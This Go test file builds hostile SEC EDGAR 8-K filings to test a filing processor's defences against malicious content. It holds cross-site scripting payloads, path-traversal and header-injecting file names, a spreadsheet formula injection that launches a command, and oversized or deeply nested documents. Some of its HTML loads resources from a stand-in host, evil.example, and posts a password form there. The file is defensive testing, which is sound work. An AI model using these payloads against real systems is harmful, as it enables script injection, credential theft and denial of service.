package attack

import (
	"fmt"
	"strings"
	"testing"

	"example.com/edgard/edgar"
	"example.com/edgard/edgartest"
)

// evil is what hostile filers put wherever they can: it breaks out of attributes, text,
// scripts and comments, and says who it is.
const evil = `"'--></title></script><img src=x onerror=owned()><script>owned()</script>`

// accessions of the filings that hostile files.
const (
	names     = "0009000013-24-000001" // names, texts and file names that are markup
	exhibits  = "0009000013-24-000002" // html that runs, sends and embeds
	giants    = "0009000013-24-000003" // a document that is deep, and one that is long
	oddities  = "0009000013-24-000004" // media types that lie
	manyItems = "0009000013-24-000005" // more than anybody reports
)

type document struct{ kind, name, description, text string }

func hostile(t *testing.T) []edgartest.Submission {
	t.Helper()
	return []edgartest.Submission{
		submission(t, names, "ACME "+evil+" CORP",
			document{"8-K", `../../canary.txt`, evil, report("Acme "+evil, `Results `+escaped(evil)+` were announced.`)},
			document{"EX-99.1", `ex"; filename="owned.exe`, evil, "<html><body><p>Press release</p></body></html>"},
			document{"EX-99.2", "<img src=x onerror=owned()>.htm", "press release", "<html><body>" + evil + "</body></html>"},
			document{"EX-99.3", "name\u202ecod.exe", "=cmd|'/C calc'!A1", "text"},
		),
		submission(t, exhibits, "BETA INC",
			document{"8-K", "8k.htm", "8-K", report("Beta Inc", "See the exhibit.")},
			document{"EX-99.1", "run.htm", "everything that runs", running()},
			document{"EX-99.2", "picture.svg", "a picture", `<svg xmlns="http://www.w3.org/2000/svg" onload="owned()"><script>owned()</script><foreignObject><iframe src="javascript:owned()"/></foreignObject></svg>`},
			document{"EX-99.3", "page.xml", "xml", `<?xml version="1.0"?><?xml-stylesheet href="javascript:owned()"?><html xmlns="http://www.w3.org/1999/xhtml"><script>owned()</script></html>`},
			document{"EX-99.4", "plain.txt", "text", "<script>owned()</script> " + evil},
		),
		submission(t, giants, "GAMMA INC",
			document{"8-K", "8k.htm", "8-K", report("Gamma Inc", strings.Repeat("long ", 200_000))},
			document{"EX-99.1", "deep.htm", "deep", "<html><body>" + strings.Repeat("<div><table><tr><td>", 50_000) + "x</body></html>"},
			document{"EX-99.2", "wide.htm", "wide", "<html><body><table><tr>" + strings.Repeat("<td colspan=999999999 rowspan=999999999>x", 50_000) + "</table></body></html>"},
			document{"EX-99.3", "long.txt", "long", strings.Repeat("a line of text that is long enough to fill a page\n", 150_000)},
		),
		submission(t, oddities, "DELTA INC",
			document{"8-K", "8k.htm", "8-K", report("Delta Inc", "Nothing.")},
			document{"GRAPHIC", "page.jpg", "", "<html><script>owned()</script></html>"},
			document{"EX-99.1", "page.pdf", "", "<html><script>owned()</script></html>"},
			document{"EX-101.INS", "code.js", "", "owned()"},
			document{"EX-99.2", "style.css", "", "body{background:url(javascript:owned())}"},
			document{"EX-99.3", "page.html.gif", "", "GIF89a<script>owned()</script>"},
		),
		submission(t, manyItems, "EPSILON INC", document{"8-K", "8k.htm", "8-K", strings.Repeat(report("Epsilon Inc", "Again."), 300)}),
	}
}

// escaped is markup that html shows as it is written.
func escaped(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
}

// report is a document with an item.
func report(company, text string) string {
	return "<html><body><p>FORM 8-K</p><p>" + company + "</p><p>(Exact name of registrant as specified in its charter)</p>" +
		"<p><b>Item 8.01. Other Events.</b></p><p>" + text + "</p><p>SIGNATURE</p><p>By: /s/ " + company + "</p></body></html>"
}

// running is html that would run, send or embed in a browser that lets it.
func running() string {
	return `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"; p{background:url(https://evil.example/x)}</style></head>
<body onload="owned()" background="https://evil.example/x">
<script src="https://evil.example/x.js"></script><script>owned()</script><noscript><img src="https://evil.example/x"></noscript>
<p onclick="owned()" style="background:url(https://evil.example/x);behavior:url(x)">a paragraph</p>
<a href="javascript:owned()">one</a> <a href=" java
script:owned()">two</a> <a href="data:text/html,<script>owned()</script>">three</a> <a href="vbscript:owned()">four</a>
<img src="https://evil.example/x" onerror="owned()"> <img src=x:x onerror=owned()> <image href="javascript:owned()">
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>owned()</script>"></iframe><object data="x"></object><embed src="x"><applet code=x></applet>
<form action="https://evil.example/"><input type=password name=p><button formaction="javascript:owned()">go</button></form>
<svg onload="owned()"><script>owned()</script><use href="data:image/svg+xml,x"/><a xlink:href="javascript:owned()"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned()&gt;"></mtext></math>
<template><script>owned()</script></template><details open ontoggle=owned()>x</details><video><source onerror=owned()></video>
<xmp></xmp><img src=x onerror=owned()></xmp><plaintext><script>owned()</script></body></html>`
}

// submission is an 8-K as EDGAR would serve it.
func submission(t *testing.T, accession, company string, docs ...document) edgartest.Submission {
	t.Helper()
	acc, err := edgar.ParseAccession(accession)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	fmt.Fprintf(&b, `<SEC-DOCUMENT>%[1]s.txt : 20240201
<SEC-HEADER>%[1]s.hdr.sgml : 20240201
<ACCEPTANCE-DATETIME>20240201163005
ACCESSION NUMBER:		%[1]s
CONFORMED SUBMISSION TYPE:	8-K
PUBLIC DOCUMENT COUNT:		%[2]d
CONFORMED PERIOD OF REPORT:	20240201
ITEM INFORMATION:		Other Events
FILED AS OF DATE:		20240201

FILER:

	COMPANY DATA:
		COMPANY CONFORMED NAME:			%[3]s
		CENTRAL INDEX KEY:			0009000013
		STATE OF INCORPORATION:			DE

	FILING VALUES:
		FORM TYPE:		8-K
		SEC ACT:		1934 Act
		SEC FILE NUMBER:	001-90013

	BUSINESS ADDRESS:
		STREET 1:		%[3]s
		CITY:			%[3]s
		STATE:			ME

	FORMER COMPANY:
		FORMER CONFORMED NAME:	%[3]s
		DATE OF NAME CHANGE:	20200101
</SEC-HEADER>
`, accession, len(docs), company)
	for i, d := range docs {
		fmt.Fprintf(&b, "<DOCUMENT>\n<TYPE>%s\n<SEQUENCE>%d\n<FILENAME>%s\n<DESCRIPTION>%s\n<TEXT>\n%s\n</TEXT>\n</DOCUMENT>\n", d.kind, i+1, d.name, d.description, d.text)
	}
	b.WriteString("</SEC-DOCUMENT>\n")
	cik, err := edgar.CIKFromInt(9000013)
	if err != nil {
		t.Fatal(err)
	}
	return edgartest.Submission{Accession: acc, Body: []byte(b.String()), Filers: []edgartest.Filer{{CIK: cik, Name: company}}}
}
